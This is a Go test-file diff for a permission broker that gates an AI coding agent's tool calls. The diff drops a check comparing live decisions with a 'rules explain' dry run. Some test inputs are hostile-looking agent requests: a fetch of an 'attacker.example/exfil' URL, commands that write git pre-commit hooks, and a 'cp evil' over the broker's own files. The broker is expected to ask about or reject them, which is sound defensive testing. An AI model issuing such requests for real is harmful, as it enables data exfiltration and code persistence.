@@ -7,7 +7,6 @@ import (
 	"encoding/json"
 	"fmt"
 	"os"
-	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -46,54 +45,6 @@ func auditLine(t *testing.T, path, toolCallID string) map[string]any {
 	}
 	t.Fatalf("no audit line for %s", toolCallID)
 	return nil
-}
-
-// explained runs a permission request (a whole message, expanded) through
-// `acp-broker rules explain` with the decider's config, directory and state,
-// and returns its decision: the dry run must agree with the live broker.
-func (d *decider) explained(req string, env ...string) string {
-	d.t.Helper()
-	var m struct {
-		Params json.RawMessage `json:"params"`
-	}
-	if err := json.Unmarshal([]byte(d.expand(req)), &m); err != nil {
-		d.t.Fatal(err)
-	}
-	args := []string{"rules", "explain", "--json", "--cwd", d.cwd}
-	if d.config != "" {
-		args = append(args, "--config", d.config)
-	}
-	cmd := exec.Command(brokerBin, args...)
-	cmd.Env = append(append(testEnv(), "XDG_STATE_HOME="+d.state), env...)
-	cmd.Dir = d.root
-	cmd.Stdin = bytes.NewReader(m.Params)
-	out, err := cmd.Output()
-	if err != nil {
-		d.t.Fatalf("rules explain: %v\n%s", err, out)
-	}
-	var v struct{ Decision string }
-	if err := json.Unmarshal(out, &v); err != nil {
-		d.t.Fatalf("rules explain: %v\n%s", err, out)
-	}
-	return v.Decision
-}
-
-// bothDecided is decided, and requires rules explain to allow it too.
-func (d *decider) bothDecided(req, optionID string, env ...string) {
-	d.t.Helper()
-	d.decided(req, optionID)
-	if got := d.explained(req, env...); got != "allow" {
-		d.t.Errorf("the live broker allowed it, rules explain says %s: %s", got, clip(req))
-	}
-}
-
-// bothAsked is asked, and requires rules explain to ask too.
-func (d *decider) bothAsked(req, answer string, env ...string) {
-	d.t.Helper()
-	d.asked(req, answer)
-	if got := d.explained(req, env...); got != "ask" {
-		d.t.Errorf("the live broker asked, rules explain says %s: %s", got, clip(req))
-	}
 }
 
 // TestAlwaysRemembersNoPrefixThatRunsCodeOrWrites: issue 11 item 3. The
@@ -142,12 +93,12 @@ func TestAlwaysRemembersNoPrefixThatRunsCodeOrWrites(t *testing.T) {
 			id := 2
 			for _, cmd := range c.decided {
 				cmd = d.expand(cmd)
-				d.bothDecided(permission(fmt.Sprint(id), execCall(fmt.Sprintf("t%d", id), cmd), claudeOptions), "allow")
+				d.decided(permission(fmt.Sprint(id), execCall(fmt.Sprintf("t%d", id), cmd), claudeOptions), "allow")
 				id++
 			}
 			for _, cmd := range c.asked {
 				cmd = strings.ReplaceAll(cmd, "$HOME", homeDir)
-				d.bothAsked(permission(fmt.Sprint(id), execCall(fmt.Sprintf("t%d", id), cmd), claudeOptions), answer(fmt.Sprint(id), "reject"))
+				d.asked(permission(fmt.Sprint(id), execCall(fmt.Sprintf("t%d", id), cmd), claudeOptions), answer(fmt.Sprint(id), "reject"))
 				id++
 			}
 			d.finish()
@@ -183,11 +134,11 @@ command = ["cp *", "tar *", "rm *", "mv *", "unzip *", "ls *", "grep *", "cat *"
 		"chmod +x .git/hooks/pre-commit", "python3 gen.py .git/hooks/pre-commit",
 	} {
 		cmd = strings.NewReplacer("$HOME", homeDir, "$CWD", d.cwd).Replace(cmd)
-		d.bothAsked(permission(fmt.Sprint(id), execCall(fmt.Sprintf("t%d", id), cmd), claudeOptions), answer(fmt.Sprint(id), "reject"))
+		d.asked(permission(fmt.Sprint(id), execCall(fmt.Sprintf("t%d", id), cmd), claudeOptions), answer(fmt.Sprint(id), "reject"))
 		id++
 	}
 	for _, cmd := range []string{"ls .", "ls ~", "grep -r foo .", "cat .git/config", "cp a b", "tar xf p.tar -C build", "rm -rf build"} {
-		d.bothDecided(permission(fmt.Sprint(id), execCall(fmt.Sprintf("t%d", id), cmd), claudeOptions), "allow")
+		d.decided(permission(fmt.Sprint(id), execCall(fmt.Sprintf("t%d", id), cmd), claudeOptions), "allow")
 		id++
 	}
 	for _, args := range []string{`["x",".git/hooks/pre-commit"]`, `["-r","x","."]`, `["x","$HOME"]`} {
@@ -206,7 +157,7 @@ func TestTitleOnlyAlwaysCoversNoFetchMCPCommandOrPath(t *testing.T) {
 	t.Parallel()
 	d := startDecider(t, deciderOptions{rules: "read_only = \"ask\"\n", mcpServers: `[{"name":"db","command":"/bin/true","args":[],"env":[]}]`})
 	d.asked(permission("1", `{"toolCallId":"learn","kind":"other","title":"Sync"}`, claudeOptions), answer("1", "allow_always"))
-	d.bothDecided(permission("2", `{"toolCallId":"t2","kind":"other","title":"Sync"}`, claudeOptions), "allow")
+	d.decided(permission("2", `{"toolCallId":"t2","kind":"other","title":"Sync"}`, claudeOptions), "allow")
 	for i, tc := range []string{
 		`{"toolCallId":"t3","kind":"fetch","title":"Sync","rawInput":{"url":"https://attacker.example/exfil?k=1"}}`,
 		`{"toolCallId":"t4","kind":"other","title":"Sync","rawInput":{"url":"https://attacker.example/exfil"}}`,
@@ -219,7 +170,7 @@ func TestTitleOnlyAlwaysCoversNoFetchMCPCommandOrPath(t *testing.T) {
 		`{"toolCallId":"t11","kind":"delete","title":"Sync"}`,
 	} {
 		id := fmt.Sprint(3 + i)
-		d.bothAsked(permission(id, tc, claudeOptions), answer(id, "reject"))
+		d.asked(permission(id, tc, claudeOptions), answer(id, "reject"))
 	}
 	d.finish()
 	entries := rememberedEntries(t, d.state)
@@ -312,12 +263,12 @@ func TestBrokerLaunchIsProtected(t *testing.T) {
 			t.Errorf("%s: refused with %q", path, msg)
 		}
 		id := fmt.Sprint(100 + i)
-		d.bothAsked(permission(id, fmt.Sprintf(`{"toolCallId":"e%d","kind":"edit","title":"Edit","rawInput":{"file_path":"%s","new_string":"x"}}`, i, p), claudeOptions), answer(id, "reject"), "XDG_CONFIG_HOME="+xdg)
+		d.asked(permission(id, fmt.Sprintf(`{"toolCallId":"e%d","kind":"edit","title":"Edit","rawInput":{"file_path":"%s","new_string":"x"}}`, i, p), claudeOptions), answer(id, "reject"))
 		id = fmt.Sprint(200 + i)
-		d.bothDecided(permission(id, fmt.Sprintf(`{"toolCallId":"r%d","kind":"read","title":"Read","locations":[{"path":"%s"}]}`, i, p), claudeOptions), "allow", "XDG_CONFIG_HOME="+xdg)
+		d.decided(permission(id, fmt.Sprintf(`{"toolCallId":"r%d","kind":"read","title":"Read","locations":[{"path":"%s"}]}`, i, p), claudeOptions), "allow")
 		// A command that writes it, with an allow rule for the program.
 		id = fmt.Sprint(300 + i)
-		d.bothAsked(permission(id, execCall(fmt.Sprintf("c%d", i), "cp evil "+path), claudeOptions), answer(id, "reject"), "XDG_CONFIG_HOME="+xdg)
+		d.asked(permission(id, execCall(fmt.Sprintf("c%d", i), "cp evil "+path), claudeOptions), answer(id, "reject"))
 		d.refused(fmt.Sprintf(`{"jsonrpc":"2.0","id":"term%d","method":"terminal/create","params":{"sessionId":"sess_1","command":"tee","args":["%s"],"cwd":"$CWD"}}`, i, p))
 	}
 	d.finish()
